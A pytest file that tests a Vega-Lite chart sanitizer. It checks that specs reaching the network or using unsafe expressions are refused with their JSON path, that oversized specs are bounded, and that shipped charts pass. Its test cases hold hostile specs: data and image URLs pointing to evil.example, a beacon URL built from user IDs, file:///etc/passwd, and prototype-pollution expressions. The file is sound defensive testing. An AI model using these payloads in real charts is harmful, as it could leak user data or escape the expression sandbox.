"""The Vega-Lite sanitizer: every way a spec could reach the network is refused with its JSON path, shapes are
bounded, and the charts we ship (categories, the default custom spec) pass unchanged."""

from __future__ import annotations

import copy

import pytest

from vega_specs import BAR, EXFILTRATION, OTHER_API, PIXEL
from xolap.analytics.categories.registry import CATEGORIES
from xolap.analytics.vega_safety import SpecLimits, SpecRefused, check_spec, refusal


def refused_at(spec, path_start: str) -> SpecRefused:
    with pytest.raises(SpecRefused) as caught:
        check_spec(spec)
    assert caught.value.path.startswith(path_start), (caught.value.path, path_start)
    assert str(caught.value).startswith(caught.value.path + ": ")
    return caught.value


def test_the_exfiltration_spec_is_refused_at_the_nested_data_url():
    refused = refused_at(EXFILTRATION, "$.layer[1].layer[0].data")
    assert "url" in refused.path and "URL" in refused.reason


def test_the_image_beacon_alone_is_refused_at_its_url_channel():
    spec = copy.deepcopy(EXFILTRATION)
    del spec["layer"][1]["layer"][0]["data"]
    refused = refused_at(spec, "$.layer[1].layer[0].")
    assert refused.path in ("$.layer[1].layer[0].transform[0].calculate", "$.layer[1].layer[0].encoding.url")


@pytest.mark.parametrize(
    "spec, path",
    [
        ({"data": {"url": "https://evil.example/x.json"}, **BAR}, "$.data.url"),
        ({"data": {"url": "data/cars.json"}, **BAR}, "$.data.url"),
        ({"data": {"url": "file:///etc/passwd"}, **BAR}, "$.data.url"),
        ({"hconcat": [BAR, {"data": {"url": OTHER_API}, **BAR}]}, "$.hconcat[1].data.url"),
        ({"vconcat": [BAR, {"concat": [{"data": {"url": OTHER_API}, **BAR}]}]}, "$.vconcat[1].concat[0].data.url"),
        ({"facet": {"row": {"field": "a"}}, "spec": {"data": {"url": OTHER_API}, **BAR}}, "$.spec.data.url"),
        ({"repeat": ["a"], "spec": {"layer": [{"data": {"url": OTHER_API}, **BAR}]}}, "$.spec.layer[0].data.url"),
        (
            {
                **BAR,
                "transform": [{"lookup": "id", "from": {"data": {"url": OTHER_API}, "key": "id", "fields": ["x"]}}],
            },
            "$.transform[0].from.data.url",
        ),
        (
            {**BAR, "transform": [{"lookup": "id", "from": {"data": {"name": "x", "loader": {}}, "key": "id"}}]},
            "$.transform[0].from.data.loader",
        ),
        ({"mark": {"type": "image", "url": "https://evil.example/a.png"}}, "$.mark.url"),
        ({"mark": {"type": "image", "url": {"expr": "'https://evil.example/' + datum.user_id"}}}, "$.mark.url"),
        ({"mark": "image", "encoding": {"url": {"field": "u"}}}, "$.encoding.url"),
        ({"mark": "image", "encoding": {"url": {"value": "https://evil.example/a.png"}}}, "$.encoding.url"),
        (
            {
                "mark": "image",
                "encoding": {"url": {"condition": {"test": "true", "value": "https://e.example"}, "value": PIXEL}},
            },
            "$.encoding.url",
        ),
        ({"mark": "image", "encoding": {"url": {"datum": "https://evil.example/a.png"}}}, "$.encoding.url"),
        ({**BAR, "encoding": {"href": {"field": "u"}}}, "$.encoding.href"),
        ({"mark": {"type": "bar", "href": "https://evil.example"}}, "$.mark.href"),
        ({**BAR, "config": {"mark": {"href": "https://evil.example"}}}, "$.config.mark.href"),
        ({**BAR, "usermeta": {"embedOptions": {"loader": {"baseURL": "https://evil.example/"}}}}, "$.usermeta"),
        ({**BAR, "config": {"loader": {"baseURL": "https://evil.example/"}}}, "$.config.loader"),
        ({**BAR, "$schema": "https://evil.example/schema.json"}, "$.$schema"),
        ({**BAR, "$schema": "https://vega.github.io/schema/vega-lite/v6.json?x=https://evil.example"}, "$.$schema"),
        ({"layer": [{**BAR, "$schema": "https://vega.github.io/schema/vega-lite/v6.json"}]}, "$.layer[0].$schema"),
        (
            {**BAR, "params": [{"name": "p", "bind": {"input": "text", "element": "#login"}}]},
            "$.params[0].bind.element",
        ),
        ({**BAR, "params": [{"name": "p", "expr": "window.location"}]}, "$.params[0].expr"),
        ({**BAR, "transform": [{"calculate": "datum.constructor", "as": "c"}]}, "$.transform[0].calculate"),
        ({**BAR, "transform": [{"calculate": "datum['constructor']", "as": "c"}]}, "$.transform[0].calculate"),
        ({**BAR, "transform": [{"calculate": "datum['con' + 'structor']", "as": "c"}]}, "$.transform[0].calculate"),
        ({**BAR, "transform": [{"calculate": "datum['\\x63onstructor']", "as": "c"}]}, "$.transform[0].calculate"),
        ({**BAR, "transform": [{"calculate": "datum.a . __proto__", "as": "c"}]}, "$.transform[0].calculate"),
        ({**BAR, "transform": [{"filter": "modify('x', datum)"}]}, "$.transform[0].filter"),
        (
            {**BAR, "encoding": {"x": {"field": "a", "axis": {"labelExpr": "datum.label.constructor"}}}},
            "$.encoding.x.axis.labelExpr",
        ),
        (
            {"facet": {"field": "a", "header": {"labelExpr": "'x'" + " + 'y'" * 1000}}, "spec": BAR},
            "$.facet.header.labelExpr",
        ),
        ({**BAR, "mark": {"type": "bar", "fill": "url(https://evil.example/p.svg#g)"}}, "$.mark.fill"),
        ({**BAR, "background": "URL( //evil.example/p.svg#g)"}, "$.background"),
        ({**BAR, "signals": [{"name": "s", "update": "1"}]}, "$.signals"),
    ],
)
def test_every_way_to_reach_the_network_is_refused_with_its_path(spec, path):
    refused_at(spec, path)


@pytest.mark.parametrize(
    "spec, path, words",
    [
        ({**BAR, "width": 100000, "height": 100000}, "$.width", "limit"),
        ({**BAR, "height": 5000}, "$.height", "limit"),
        ({**BAR, "width": {"step": 100000}}, "$.width.step", "limit"),
        ({**BAR, "config": {"view": {"continuousWidth": 50000}}}, "$.config.view.continuousWidth", "limit"),
        ({**BAR, "config": {"view": {"step": 9000}}}, "$.config.view.step", "limit"),
        ({**BAR, "padding": 100000}, "$.padding", "limit"),
        ({**BAR, "padding": {"left": 10, "top": 1e9}}, "$.padding.top", "limit"),
        ({**BAR, "autosize": {"type": "fit", "contains": "padding", "extra": 1}}, "$.autosize", "autosize"),
        ({**BAR, "autosize": "grow"}, "$.autosize", "autosize"),
        ({"hconcat": [BAR] * 21}, "$.hconcat", "entries"),
        ({"vconcat": [{"hconcat": [BAR] * 10}] * 10}, "$.vconcat", "views"),
        ({"repeat": {"row": ["a"] * 30}, "spec": BAR}, "$.repeat.row", "entries"),
        ({**BAR, "data": {"sequence": {"start": 0, "stop": 1e9}}}, "$.data.sequence", "rows"),
        ({**BAR, "encoding": {"x": {"field": "a", "bin": {"maxbins": 10**7}}}}, "$.encoding.x.bin.maxbins", "limit"),
        ({**BAR, "transform": [{"calculate": "1+" * 2000 + "1", "as": "x"}]}, "$.transform[0].calculate", "characters"),
        ({**BAR, "width": float("nan")}, "$", "JSON"),
        ({**BAR, "width": "100%"}, "$.width", "px"),
        ({**BAR, "data": {"values": [{"x": "y" * 300_000}]}}, "$", "bytes"),
    ],
)
def test_shapes_past_the_bounds_are_refused_with_their_path(spec, path, words):
    refused = refused_at(spec, path)
    assert words in str(refused)


def test_depth_is_bounded():
    deep: dict = {"x": 1}
    for _ in range(60):
        deep = {"a": deep}
    refused = refused_at({**BAR, "config": deep}, "$.config.a")
    assert "deeper" in refused.reason
    assert check_spec({**BAR, "config": deep}, SpecLimits(max_depth=100))


def test_not_an_object_is_refused():
    with pytest.raises(SpecRefused):
        check_spec(["mark", "bar"])


@pytest.mark.parametrize("category", sorted(CATEGORIES))
def test_the_shipped_category_charts_pass(category):
    spec = copy.deepcopy(CATEGORIES[category].spec)
    assert check_spec(spec) == CATEGORIES[category].spec


@pytest.mark.parametrize(
    "spec",
    [
        BAR,
        {**BAR, "$schema": "https://vega.github.io/schema/vega-lite/v6.4.json", "width": "container", "height": 300},
        {**BAR, "width": {"step": 20}, "autosize": {"type": "fit", "contains": "padding"}, "padding": 5},
        {"mark": {"type": "image", "width": 10, "height": 10, "url": PIXEL}},
        {"mark": "image", "encoding": {"url": {"value": PIXEL}}},
        {**BAR, "data": {"values": [{"url": "https://example.org/page", "href": "x"}]}},
        {
            **BAR,
            "transform": [
                {"calculate": "datum.url + ' visits'", "as": "label"},
                {"filter": "datum.file != 'x' && datum.n > 2"},
                {"calculate": "datum['time spent'] / 60 + datum[\"open\"]", "as": "minutes"},
            ],
        },
        {
            **BAR,
            "params": [
                {"name": "brush", "select": "interval"},
                {"name": "p", "value": 3, "bind": {"input": "range", "min": 1, "max": 9}},
            ],
        },
        {"layer": [BAR, {**BAR, "mark": "line"}], "resolve": {"scale": {"y": "independent"}}},
        {
            "data": {"sequence": {"start": 0, "stop": 100, "as": "x"}},
            "mark": "point",
            "encoding": {"x": {"field": "x", "type": "quantitative", "scale": {"padding": 0.1}}},
        },
        {"title": "Visits to https://example.org", **BAR},
        {**BAR, "encoding": {"x": {"field": "duration_ms", "bin": {"step": 60000}, "type": "quantitative"}}},
    ],
)
def test_ordinary_charts_pass(spec):
    assert refusal(spec) is None


def test_the_custom_tabs_default_spec_passes():
    from xolap.web.dashboards import DEFAULT_SPEC

    assert refusal(DEFAULT_SPEC) is None
